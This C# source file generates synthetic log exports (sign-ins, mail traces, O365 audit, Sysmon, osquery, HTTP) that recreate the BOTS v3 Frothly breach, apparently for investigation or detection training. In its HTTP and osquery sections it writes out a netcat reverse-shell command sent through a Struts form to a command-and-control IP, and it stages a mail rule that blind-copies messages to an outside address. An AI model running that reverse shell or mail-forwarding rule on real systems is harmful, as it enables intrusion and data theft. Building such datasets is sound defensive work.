using System.Globalization;
using System.Text.Json;

namespace Weir.Botsv3;

/// <summary>The events of the incident, made from the published facts (README.md) and nothing else; the same at every call.</summary>
internal static class Incident
{
    private const string HongKong = "104.207.83.63", Second = "199.66.91.253", Third = "157.97.121.132", C2 = "45.77.53.176";
    private const string Naenara = "Mozilla/5.0 (X11; U; Linux i686; ko-KP; rv: 19.1br) Gecko/20130508 Fedora/1.9.1-2.5.rs3.0 NaenaraBrowser/3.5b4";
    private const string SysmonType = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", SysmonSource = "WinEventLog:Microsoft-Windows-Sysmon/Operational";
    private const int FyodorBeacons = 3_849, AbungstBeacons = 1_070; // with the quoted download 3,850 on FYODOR-L

    private static readonly string[] Staff = ["bgist", "fyodor", "bstoll", "klagerfield", "abungst", "btun", "jwortos", "mkraeus", "pcerf", "ghoppy"];

    private static readonly string[] Workstations = ["ABUNGST-L", "BGIST-L", "BSTOLL-L", "BTUN-L", "FYODOR-L", "JWORTOS-L", "MKRAEUS-L", "PCERF-L"];

    private static readonly string[] Linux =
    [
        "gacrux.i-06fea586f3d3c8ce8", "gacrux.i-0920036c8ca91e501", "gacrux.i-09cbc261e84259b54", "gacrux.i-0cc93bade2b3cba63", "mars.i-08e52f8b5a034012d", "hoth", "matar", "ntesla", "serverless",
        "splunk.froth.ly", "splunkhwf.froth.ly", "FROTHLY-FW1", "ip-172-16-0-109.ec2.internal", "ip-172-16-0-127", "ip-172-16-0-13", "ip-172-16-0-145", "ip-172-16-0-178", "ip-172-31-12-76", "ip-172-31-36-235",
        "console.us.code42.com:443", "OD-FM-NA-i-0ad2d665d4bdace22.amazonaws.com",
    ];

    private static readonly string[] Homes = ["73.21.45.12", "67.170.12.90", "24.6.188.41", "174.215.1.81"];

    /// <param name="quoted">Folder of the real events.</param>
    public static IEnumerable<Export> All(string quoted)
    {
        string Quoted(string name) => File.ReadAllText(Path.Combine(quoted, name)).TrimEnd('\n');
        yield return SignIns();
        yield return MessageTrace();
        yield return Audit(Quoted("o365_New-MailboxSearch.json"));
        yield return Sysmon(Quoted("sysmon_eid1_FYODOR-L_rec34593_empire.xml"));
        yield return WinEventLog(Quoted("powershell_4100_FYODOR-L.txt"), Quoted("winsec_4720_FYODOR-L_svcvnc.txt"), Quoted("winsec_4732_FYODOR-L_administrators.txt"));
        yield return StreamHttp(Quoted("stream_http_logos_png_3333.json"), Quoted("stream_http_struts_form_data.txt"));
        yield return Osquery(Quoted("osquery_proc_events_hoth_useradd.json"));
    }

    private static Export SignIns()
    {
        var export = new Export("signin.csv", "createdDateTime", "user", "app", "src_ip", "location.country", "loginStatus", "errorCode", "failureReason", "deviceInformation");
        void Add(string time, string user, string app, string ip, string country, string device, int error = 0, string reason = "") => export.Add(
            time, "serverless", "ms_aad_signin", "ms:aad:signin", false, time, user + "@froth.ly", app, ip, country, error == 0 ? "Success" : "Failure", error.ToString(CultureInfo.InvariantCulture), reason, device);

        string[] apps = ["Office 365 Exchange Online", "Office365 Shell WCSS-Client", "Skype Web Experience On Office 365", "Office 365 SharePoint Online"];
        for (int i = 0; i < 27; i++)
            Add(At(9, 31, 5 + i * 331), i < 14 ? "bgist" : "fyodor", apps[i % 4], HongKong, "HK", "Windows 7;aBrowswer 3.5;");
        for (int i = 0; i < 50; i++)
            Add(At(10, 2, 11 + i * 97), i % 3 == 0 ? "fyodor" : "klagerfield", apps[i % 3], Second, "US", "Windows 10;Chrome 68.0;", i is 5 or 6 or 7 or 8 ? 50126 : 0, i is 5 or 6 or 7 or 8 ? "Invalid username or password." : "");
        Add("2018-08-20T11:43:14.7994359Z", "klagerfield", apps[0], Second, "US", "Windows 10;Chrome 68.0;", 50055, "The password is expired.");
        for (int i = 0; i < 8; i++)
            Add(At(12, 40, i * 211), i < 4 ? "bgist" : "bstoll", apps[i % 2], Third, "NL", "Windows 10;Firefox 61.0;", i is 1 or 2 or 3 ? 50057 : 0, i is 1 or 2 or 3 ? "The user account is disabled." : "");
        for (int day = 13; day <= 20; day++)
        {
            for (int user = 0; user < Staff.Length; user++)
                Add(Day(day, 13 + user % 6, user * 173 + day * 29), Staff[user], apps[(day + user) % 4], Homes[user % Homes.Length], "US", user % 2 == 0 ? "Windows 10;Edge 17.17134;" : "Ios 11.4.1;Mobile Safari 11.0;");
        }

        return export;
    }

    private static Export MessageTrace()
    {
        var export = new Export("messagetrace.csv", "src", "orig_src", "orig_recipient", "subject", "size", "action", "MessageTraceId");
        int number = 0;
        void Add(string time, string ip, string from, string to, string subject, int size, string action) => export.Add(
            time, "serverless", "ms_o365_message_trace", "ms:o365:reporting:messagetrace", false, ip, from, to, subject, size.ToString(CultureInfo.InvariantCulture), action, Id("mail", number++));

        string[] lured = ["fyodor", "bstoll", "klagerfield", "abungst", "btun", "pcerf"];
        foreach (string user in lured)
            Add(At(9, 41, 7), HongKong, "bgist@froth.ly", user + "@froth.ly", "Draft Financial Plan for Brewery FY2019", 187_442, "Quarantined");
        foreach (string user in lured)
            Add(At(9, 58, 52), HongKong, "bgist@froth.ly", user + "@froth.ly", "Draft Financial Plan for Brewery FY2019", 11_873, "Delivered");
        string[] subjects = ["Whats going on with Grace", "RE: Q3 brewing schedule", "Fw: Hop supplier contract", "Payroll August", "RE: Distribution agreement", "SOX audit questions"];
        for (int i = 0; i < 84; i++)
            Add(i == 83 ? "2018-08-20T15:07:01Z" : At(11, 22, 20 + i * 158), Homes[i % 4], (i == 83 ? "pcerf" : Staff[i % 10]) + "@froth.ly", "hyunki1984@naver.com", i == 83 ? subjects[0] : subjects[i % 6], 6_200 + i * 91, "Delivered");
        for (int i = 0; i < 300; i++)
            Add(Day(14 + i % 7, 12 + i % 9, i * 37), Homes[i % 4], Staff[i % 10] + "@froth.ly", Staff[(i * 3 + 1) % 10] + "@froth.ly", subjects[1 + i % 5], 4_000 + i * 13, "Delivered");
        return export;
    }

    private static Export Audit(string mailboxSearch)
    {
        var export = new Export("audit.csv", "Id", "src", "user_id", "command", "action", "authentication_service", "file_name", "record_type", "user_agent", "Parameters", "_raw");
        int number = 0;
        void Add(string time, string src, string user, string command, string service, string file = "", string agent = "", string record = "SharePointFileOperation", string parameters = "", string id = "", string type = "o365:management:activity") =>
            export.Add(time, "serverless", "ms_o365_management", type, false, id.Length > 0 ? id : Id("audit", number++), src, user + "@froth.ly", command, "success", service, file, record, agent, parameters, "");

        string[] lures = ["stout-2.jpg", "morebeer.jpg", "stout.png", "BRUCE BIRTHDAY HAPPY HOUR PICS.lnk"];
        for (int i = 0; i < lures.Length; i++)
            Add(i == 3 ? "2018-08-20T09:57:33Z" : "2018-08-20T09:57:17Z", HongKong, "bgist", "FileUploaded", "OneDrive", lures[i], Naenara);
        Add("2018-08-20T09:58:02Z", HongKong, "bgist", "AnonymousLinkCreated", "OneDrive", lures[3], Naenara);
        for (int i = 0; i < 12; i++)
            Add(At(10, 5, i * 73), HongKong, i % 2 == 0 ? "bgist" : "fyodor", "FileAccessed", "OneDrive", $"Brewing plan {i + 1}.docx", Naenara);
        Add("2018-08-20T11:56:21Z", Second, "fyodor", "FileDownloaded", "OneDrive", "archive.tar", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.106 Safari/537.36");
        using (JsonDocument search = JsonDocument.Parse(mailboxSearch))
        {
            JsonElement record = search.RootElement;
            export.Add(
                record.GetProperty("CreationTime").GetString()! + "Z", "splunk.froth.ly", "ms_o365_management", "ms:o365:management", true, record.GetProperty("Id").GetString()!, record.GetProperty("ClientIP").GetString()!,
                record.GetProperty("UserId").GetString()!, record.GetProperty("Operation").GetString()!, "success", "Exchange", "", "ExchangeAdmin", "", record.GetProperty("Parameters").GetRawText(), mailboxSearch);
        }

        // One record, indexed under both sourcetypes: a naive join counts it twice.
        const string rule = """[{"Name": "BlindCopyTo", "Value": "hyunki1984@naver.com"}, {"Name": "Name", "Value": "SOX"}, {"Name": "Mode", "Value": "Enforce"}, {"Name": "StopRuleProcessing", "Value": "False"}, {"Name": "RuleErrorAction", "Value": "Ignore"}]""";
        foreach (string type in (string[])["o365:management:activity", "ms:o365:management"])
            Add("2018-08-20T11:21:40Z", "199.66.91.253:40460", "fyodor", "New-TransportRule", "Exchange", record: "ExchangeAdmin", parameters: rule, id: "f131587a-a125-4e87-4421-08d5f268e1ac", type: type);
        for (int i = 0; i < 260; i++)
            Add(Day(14 + i % 7, 12 + i % 9, i * 41), Homes[i % 4] + (i % 5 == 0 ? $":{40_000 + i}" : ""), Staff[i % 10], i % 3 == 0 ? "FileAccessed" : i % 3 == 1 ? "FileModified" : "UserLoggedIn", i % 3 == 2 ? "AzureActiveDirectory" : "OneDrive", i % 3 == 2 ? "" : $"Notes {i % 40}.docx", "Microsoft Office Word 2014");
        return export;
    }

    private static Export Sysmon(string empire)
    {
        var export = new Export("sysmon.csv", "EventCode", "_raw");
        export.Add("2018-08-20T11:10:55.578Z", "FYODOR-L", SysmonSource, SysmonType, true, "1", empire);
        export.Add(
            "2018-08-20T11:52:16.678Z", "FYODOR-L", SysmonSource, SysmonType, false, "1",
            """
            <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2018-08-20T11:52:16.678737700Z'/><EventRecordID>36108</EventRecordID><Correlation/><Execution ProcessID='10440' ThreadID='2904'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>FYODOR-L.froth.ly</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='UtcTime'>2018-08-20 11:52:16.675</Data><Data Name='Image'>C:\Windows\System32\tar.exe</Data><Data Name='CommandLine'>"C:\Windows\system32\tar.exe" -cvzf archive.tar *</Data><Data Name='CurrentDirectory'>C:\Users\FyodorMalteskesko\OneDrive - Frothly\</Data><Data Name='User'>NT AUTHORITY\SYSTEM</Data><Data Name='ParentImage'>C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data></EventData></Event>
            """);
        Beacons(export, "FYODOR-L", "192.168.70.186", FyodorBeacons, 10 * 3600 + 47 * 60 + 30);
        Beacons(export, "ABUNGST-L", "192.168.70.103", AbungstBeacons, 11 * 3600 + 58 * 60);
        for (int i = 0; i < Workstations.Length * 12; i++)
            Connection(export, Workstations[i % Workstations.Length], At(8, 0, i * 131), $"192.168.70.{100 + i % 8}", "192.168.9.10", 445, @"C:\Windows\explorer.exe", 20_000 + i);
        return export;
    }

    // Connections to the command server, seconds apart.
    private static void Beacons(Export export, string host, string ip, int count, int from)
    {
        for (int i = 0; i < count; i++)
            Connection(export, host, Day(20, 0, from + i * 5), ip, C2, i % 9 == 0 ? 3333 : 443, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", 40_000 + i);
    }

    private static void Connection(Export export, string host, string time, string from, string to, int port, string image, int record) => export.Add(
        time, host, SysmonSource, SysmonType, false, "3",
        $"<Event><System><EventID>3</EventID><TimeCreated SystemTime='{time}'/><EventRecordID>{record}</EventRecordID><Computer>{host}.froth.ly</Computer></System><EventData><Data Name='Image'>{image}</Data><Data Name='SourceIp'>{from}</Data><Data Name='DestinationIp'>{to}</Data><Data Name='DestinationPort'>{port}</Data></EventData></Event>");

    private static Export WinEventLog(string stager, string created, string administrators)
    {
        var export = new Export("wineventlog.csv", "EventCode", "_raw");
        export.Add("2018-08-20T10:45:03Z", "FYODOR-L", "WinEventLog:Microsoft-Windows-PowerShell/Operational", "wineventlog", true, "4100", stager);
        export.Add("2018-08-20T10:08:17Z", "FYODOR-L", "WinEventLog:Security", "wineventlog", true, "4720", created);
        export.Add("2018-08-20T10:08:35Z", "FYODOR-L", "WinEventLog:Security", "wineventlog", true, "4732", administrators);
        string[] hosts = [.. Workstations, "SEPM"];
        for (int i = 0; i < 270; i++)
        {
            string host = hosts[i % hosts.Length];
            var local = new DateTime(2018, 8, 20, 6, 0, 0, DateTimeKind.Utc).AddSeconds(i * 101);
            // The clocks of these machines write local time, twelve hours behind.
            export.Add(
                local.ToString("O", CultureInfo.InvariantCulture), host, "WinEventLog:Security", "wineventlog", false, "4624",
                $"{local.AddHours(-12).ToString("MM/dd/yyyy HH:mm:ss tt", CultureInfo.InvariantCulture)}\nLogName=Security\nEventCode=4624\nComputerName={host}.froth.ly\nMessage=An account was successfully logged on.");
        }

        foreach (int i in Enumerable.Range(0, 3))
            export.Add(At(12, 10, i * 60), "SEPM", "WinEventLog:Application", "wineventlog", false, "51", $"{At(0, 10, i * 60)}\nLogName=Application\nEventCode=51\nComputerName=SEPM.froth.ly\nMessage=Traffic has been blocked: remote {C2}");
        return export;
    }

    private static Export StreamHttp(string download, string whoami)
    {
        var export = new Export("stream_http.csv", "src_ip", "dest_ip", "dest_port", "http_method", "uri_path", "http_user_agent", "status", "form_data", "_raw");
        using (JsonDocument json = JsonDocument.Parse(download))
        {
            JsonElement record = json.RootElement;
            string Text(string name) => record.GetProperty(name).ToString();
            export.Add(Text("timestamp"), "FYODOR-L", "stream:http", "stream:http", true, Text("src_ip"), Text("dest_ip"), Text("dest_port"), Text("http_method"), "/images/logos.png", Text("http_user_agent"), Text("status"), "", download);
        }

        // The form of the first POST is quoted; the event around it, and the later ones, which differ in their command alone, are made.
        (string Time, string Command)[] posts =
        [
            ("2018-08-20T11:05:43Z", "whoami"), ("2018-08-20T11:13:56Z", $"/bin/sh 0</tmp/backpipe | nc {C2} 8088 1>/tmp/backpipe"), ("2018-08-20T11:34:00Z", $"/bin/sh 0</tmp/backpipe | nc {C2} 8088 1>/tmp/backpipe"),
        ];
        foreach (var (time, command) in posts)
        {
            string form = whoami.Replace("(#cmd='whoami')", $"(#cmd='{command}')", StringComparison.Ordinal);
            export.Add(time, "matar", "stream:http", "stream:http", false, "192.168.8.103", "192.168.9.30", "8080", "POST", "/frothlyinventory/integration/saveGangster.action", "python-requests/2.18.4", "200", form, "");
        }

        for (int i = 0; i < 120; i++)
            export.Add(At(8, 10, i * 103), i % 2 == 0 ? "matar" : "splunkhwf.froth.ly", "stream:http", "stream:http", false, $"192.168.70.{100 + i % 8}", "192.168.9.30", "8080", "GET", "/frothlyinventory/showcase.action", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "200", "", "");
        export.Add(At(11, 14, 5), "splunkhwf.froth.ly", "stream:tcp", "stream:http", false, "192.168.9.30", C2, "8088", "", "", "", "", "", "");
        return export;
    }

    private static Export Osquery(string useradd)
    {
        var export = new Export("osquery.csv", "name", "action", "columns.cmdline", "columns.path", "columns.owner_uid", "columns.pid", "columns.port", "_raw");
        using (JsonDocument json = JsonDocument.Parse(useradd))
        {
            JsonElement record = json.RootElement, cells = record.GetProperty("columns");
            string Text(string name) => cells.GetProperty(name).GetString()!;
            export.Add("2018-08-20T11:24:54Z", "hoth", "/var/log/osquery/osqueryd.results.log", "osquery:results", true, record.GetProperty("name").GetString()!, record.GetProperty("action").GetString()!, Text("cmdline"), Text("path"), Text("owner_uid"), Text("pid"), "", useradd);
        }

        const string source = "/var/log/osquery/osqueryd.results.log", type = "osquery:results";
        export.Add("2018-08-20T11:34:49Z", "hoth", source, type, false, "pack_process-monitoring_proc_events", "added", $"\"nc\" \"{C2}\" \"8088\"", "/bin/nc.traditional", "0", "17211", "", "");
        export.Add("2018-08-20T11:37:02Z", "hoth", source, type, false, "pack_incident-response_listening_ports", "added", "", "", "0", "14356", "1337", "");
        for (int i = 0; i < Linux.Length * 8; i++)
            export.Add(At(7, 0, i * 67), Linux[i % Linux.Length], source, type, false, "pack_process-monitoring_proc_events", "added", "\"/usr/sbin/cron\" \"-f\"", "/usr/sbin/cron", "0", (1_000 + i).ToString(CultureInfo.InvariantCulture), "", "");
        return export;
    }

    /// <summary>A time on the day of the attack.</summary>
    private static string At(int hour, int minute, int seconds) => Day(20, hour, minute * 60 + seconds);

    private static string Day(int day, int hour, int seconds) => new DateTime(2018, 8, day, 0, 0, 0, DateTimeKind.Utc).AddHours(hour).AddSeconds(seconds).ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);

    private static string Id(string kind, int number) => new Guid(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes($"weir {kind} {number}")).AsSpan(0, 16)).ToString();
}
